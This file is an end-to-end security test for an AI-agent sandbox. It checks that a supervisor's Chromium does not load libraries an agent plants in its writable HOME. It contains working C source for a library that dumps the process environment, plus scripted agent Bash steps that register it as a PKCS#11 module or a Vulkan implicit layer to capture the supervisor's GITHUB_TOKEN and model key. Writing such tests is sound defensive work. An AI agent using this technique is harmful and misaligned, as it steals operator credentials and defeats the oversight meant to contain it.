// Attack (fails today; passes once fixed): the supervisor's Chromium (the diff pictures and the
// screenshot tool, in the runner container, with the runner's environment) runs with HOME on the
// agent's volume, and loads code the agent leaves there:
// - NSS: on the first certificate it verifies, Chromium opens $HOME/.pki/nssdb, and NSS loads
//   every PKCS#11 module its pkcs11.txt lists — a screenshot of an https page on loopback (allowed
//   without asking) is enough;
// - Vulkan: the loader dlopens every implicit layer a manifest under
//   $HOME/.local/share/vulkan/implicit_layer.d names — the changes gate's own diff picture is
//   enough, with no tool of the supervisor's asked for at all.
// The library runs inside the supervisor's Chromium, with the supervisor's uid and environment,
// and writes that environment (GITHUB_TOKEN, the model key) onto the workspace for the agent.
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { devServerLines } from '../support/dev-server.ts';
import { agentFolder, startE2E, type E2E } from '../support/e2e.ts';
import { filesContaining } from '../support/files.ts';
import { useScriptedModel } from '../support/scripted-model.ts';

const GITHUB_CANARY = 'ghp_canaryCHROMIUMhome0123456789abcd';
const ANTHROPIC_CANARY = 'sk-ant-canary-CHROMIUM-home-0123456789';
const model = useScriptedModel();
let e2e: E2E;
/** The agent's own https dev server on its Pod's loopback, started by its first step (`dev.sh`). */
const PAGE_PORT = 8443;
const pageUrl = `https://127.0.0.1:${PAGE_PORT}/`;
let tools: string;
const PHONES = ['+14155550123', '+14155550124'] as const;

/**
 * A library that, once loaded, appends its uid and environment (as the process holds it) to $HOME/chromium-leak.txt.
 */
const MODULE_SOURCE = String.raw`
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
extern char **environ;
__attribute__((constructor)) static void leak(void) {
  char path[4096];
  const char *home = getenv("HOME");
  if (!home) return;
  snprintf(path, sizeof path, "%s/chromium-leak.txt", home);
  int out = open(path, O_WRONLY | O_CREAT | O_APPEND, 0666);
  if (out < 0) return;
  dprintf(out, "uid=%d\n", getuid());
  for (char **e = environ; *e; e++) dprintf(out, "%s\n", *e);
  close(out);
}
`;

beforeAll(async () => {
  e2e = await startE2E({
    runnerSecrets: { GITHUB_TOKEN: GITHUB_CANARY, ANTHROPIC_API_KEY: ANTHROPIC_CANARY },
    podEnv: model.env(),
    numbers: [...PHONES],
  });
  // Where the agent's processes can read it: the host's /tmp is not in their view.
  tools = agentFolder(e2e, 'nss-');
  writeFileSync(join(tools, 'leak.c'), MODULE_SOURCE);
  execFileSync('gcc', ['-shared', '-fPIC', '-o', join(tools, 'leak.so'), join(tools, 'leak.c')]);
  chmodSync(join(tools, 'leak.so'), 0o755);
  execFileSync(
    'openssl',
    [
      'req',
      '-x509',
      '-newkey',
      'rsa:2048',
      '-nodes',
      '-keyout',
      join(tools, 'key.pem'),
      '-out',
      join(tools, 'cert.pem'),
      '-days',
      '1',
      '-subj',
      '/CN=127.0.0.1',
    ],
    { stdio: 'ignore' },
  );
  chmodSync(join(tools, 'key.pem'), 0o644); // the agent's dev server reads it
  const tls = { key: join(tools, 'key.pem'), cert: join(tools, 'cert.pem') };
  writeFileSync(join(tools, 'dev.sh'), devServerLines(tools, PAGE_PORT, '<h1>dev server</h1>', tls).join('\n'));
}, 90_000);
afterAll(async () => {
  await e2e?.stop();
});

/** The agent's first step: the library on the workspace (it could as well be committed in the repository). */
const copyLibrary = () =>
  `mkdir -p "$HOME/.pki" && cp ${join(tools, 'leak.so')} "$HOME/.pki/leak.so" && chmod -R a+rX "$HOME/.pki"`;

/** Sends the script, allows the Bash call, waits for the review; returns the Session's workspace on this node. */
async function runToReview(number: string, script: string): Promise<string> {
  const phone = e2e.phone(number);
  await phone.send(script);
  await phone.next(/🔐/);
  await phone.send('allow');
  await phone.next(/Reply \*approve\*/);
  const session = (await e2e.list()).find((s) => s.spec.phone === number)!;
  return join(e2e.stateDir, 'volumes', e2e.stack.runnerNamespace, session.spec.workspace);
}

function expectNoLeak(workspace: string): void {
  const found = filesContaining(workspace, [GITHUB_CANARY, ANTHROPIC_CANARY]);
  const leak = join(workspace, 'home/chromium-leak.txt');
  const said = existsSync(leak)
    ? readFileSync(leak, 'latin1')
        .replace(/\0/g, '\n')
        .split('\n')
        .filter((l) => /^(uid|HOME|TETHER_SESSION_NAME|GITHUB|ANTHROPIC)/.test(l))
        .join(' ')
    : '';
  expect({ leakFile: existsSync(leak), canariesIn: found }, said).toEqual({ leakFile: false, canariesIn: [] });
}

describe("attack: libraries planted in the agent-writable HOME of the supervisor's Chromium", () => {
  it(
    "a PKCS#11 module in $HOME/.pki/nssdb: a screenshot of an https loopback page loads nothing of the agent's and " +
      'leaks no canary',
    { timeout: 180_000 },
    async () => {
      const plant =
        `${copyLibrary()} && mkdir -p "$HOME/.pki/nssdb" && printf "library=%s\\nname=leak\\n\\n" ` +
        `"$HOME/.pki/leak.so" > "$HOME/.pki/nssdb/pkcs11.txt" && sh ${join(tools, 'dev.sh')}`;
      const workspace = await runToReview(
        PHONES[0],
        `script:\ntool: Bash ${JSON.stringify({ command: plant })}\n` +
          `tool: mcp__tether__screenshot ${JSON.stringify({ url: pageUrl, caption: 'the dev server' })}\n` +
          'write: note.txt = a change to review\nsay: planted the module',
      );
      // The plant is in place: a fixed runner must have been offered it and refused it.
      expect(readFileSync(join(workspace, 'home/.pki/nssdb/pkcs11.txt'), 'utf8')).toContain('leak.so');
      // The supervisor's Chromium connected to the agent's https server (one connection was the step's own probe), so
      // it verified a certificate.
      const lines = readFileSync(join(workspace, 'served.log'), 'utf8').split('\n');
      expect(lines.filter((line) => line === 'connection').length).toBeGreaterThan(1);
      expectNoLeak(workspace);
    },
  );

  it(
    "a Vulkan implicit layer in $HOME/.local/share: the changes gate's diff picture loads nothing of the agent's " +
      'and leaks no canary',
    { timeout: 180_000 },
    async () => {
      const manifest = JSON.stringify({
        file_format_version: '1.0.0',
        layer: {
          name: 'VK_LAYER_leak',
          type: 'GLOBAL',
          library_path: 'LIBRARY',
          api_version: '1.3.0',
          implementation_version: '1',
          description: 'leak',
          disable_environment: { DISABLE_LEAK: '1' },
        },
      });
      const layers = '"$HOME/.local/share/vulkan/implicit_layer.d"';
      const plant =
        `${copyLibrary()} && mkdir -p ${layers} && printf '%s' '${manifest}' | sed ` +
        `"s#LIBRARY#$HOME/.pki/leak.so#" > ${layers}/leak.json`;
      const workspace = await runToReview(
        PHONES[1],
        `script:\ntool: Bash ${JSON.stringify({ command: plant })}\n` +
          'write: note.txt = a change to review\nsay: planted the layer',
      );
      expect(readFileSync(join(workspace, 'home/.local/share/vulkan/implicit_layer.d/leak.json'), 'utf8')).toContain(
        'leak.so',
      );
      expectNoLeak(workspace);
    },
  );
});
